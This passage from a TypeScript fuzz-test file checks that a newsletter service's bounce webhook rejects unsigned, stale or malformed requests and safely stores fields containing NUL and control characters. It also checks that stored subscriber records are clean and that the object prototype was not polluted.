      expect(await tableCounts(h)).toEqual(before);
    });
  });

  describe('POST /webhooks/bounces', () => {
    const event = fc.record(
      {
        type: fc.oneof(fc.constantFrom('hard', 'soft', 'complaint'), nastyString),
        email: addressFor('hook'),
        message_id: fc.oneof(nastyString, fc.constant('<a\u0000b@quire.test>')),
        diagnostic: fc.oneof(nastyString, fc.constant('550 5.1.1 \u0000')),
      },
      { requiredKeys: ['type'] },
    );
    const webhookBody = fc.oneof(
      event.map((e) => JSON.stringify(e)),
      fc.array(event, { maxLength: 5 }).map((events) => JSON.stringify({ events })),
      objectText([]),
      malformedJson.map((b) => b.toString('latin1')),
    );

    it('signed but hostile bodies: no 5xx, and nothing stored about addresses it never held', async () => {
      // Regression: a NUL in message_id or diagnostic failed its query with a 500.
      await fc.assert(
        fc.asyncProperty(webhookBody, async (body) => {
          fc.pre(!(await mentionsHeldAddress(body)));
          await probe(
            '/webhooks/bounces',
            {
              method: 'POST',
              body,
              headers: { 'content-type': 'application/json', 'x-quire-signature': webhookSignature(h, body) },
            },
            {
              allowed: [200, 400, 422],
              accepted: () => false,
            },
          );
        }),
        RUNS,
      );
    });

    it('a NUL in message_id or diagnostic is harmless for a real subscriber too', async () => {
      const sub = await insertActiveSubscriber(h, uniqueEmail('nul'));
      for (const e of [
        { type: 'soft', email: sub.email, diagnostic: '452 mailbox full\u0000\u0007' },
        { type: 'hard', message_id: '<x\u0000y@quire.test>' },
      ]) {
        const body = JSON.stringify(e);
        const answer = await checkAnswer(
          await h.request('/webhooks/bounces', {
            method: 'POST',
            body,
            headers: { 'content-type': 'application/json', 'x-quire-signature': webhookSignature(h, body) },
          }),
        );
        expect(answer.status).toBe(200);
      }
      const [row] = await h.query<{ diagnostic: string }>(
        'select diagnostic from bounce_events where email_hash = $1',
        [sub.emailHash],
      );
      expect(row!.diagnostic).toBe('452 mailbox full  ');
    });

    it('unsigned, badly signed or replayed bodies are a 401 and store nothing', async () => {
      await fc.assert(
        fc.asyncProperty(
          webhookBody,
          fc.oneof(
            fc.constant(undefined),
            fc.string({ maxLength: 100 }),
            fc.constantFrom('t=1,v1=00', 't=,v1=', 'v1=abc', `t=${'9'.repeat(13)},v1=ab`, 'x'.repeat(1001)),
            fc.constant('stale'),
            fc.constant('other-secret'),
          ),
          async (body, signature) => {
            let header = signature;
            if (signature === 'stale') {
              h.clock.advance(-10 * 60_000);
              header = webhookSignature(h, body);
              h.clock.advance(10 * 60_000);
            } else if (signature === 'other-secret')
              header = webhookSignature(h, body, 'a-different-secret-0123456789');
            const answer = await probe(
              '/webhooks/bounces',
              {
                method: 'POST',
                body,
                headers: {
                  'content-type': 'application/json',
                  ...(header !== undefined ? { 'x-quire-signature': header } : {}),
                },
              },
              { allowed: [401] },
            );
            expect(answer.json?.error?.code).toBe('unauthorized');
          },
        ),
        { numRuns: 50 },
      );
    });
  });

  it('every stored subscriber is normalised and clean, and no prototype was polluted', async () => {
    const rows = await h.query<{ email: string | null; name: string | null; source: string | null; locale: string }>(
      'select email, name, source, locale from subscribers',
    );
    expect(rows.length).toBeGreaterThan(10);
    for (const r of rows) {
      if (r.email === null) continue;
      const checked = checkEmail(r.email);
      expect(checked.ok, r.email).toBe(true);
      if (checked.ok) expect(checked.email).toBe(r.email);
      // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what this pattern finds
      for (const v of [r.name, r.source, r.locale]) expect(v ?? '').not.toMatch(/[\u0000-\u001f\u007f]/);
    }
    for (const key of ['polluted', 'status', 'email', 'confirm', 'name']) {
      expect(Object.prototype).not.toHaveProperty(key);
      expect(({} as Record<string, unknown>)[key]).toBeUndefined();
    }
  });
});
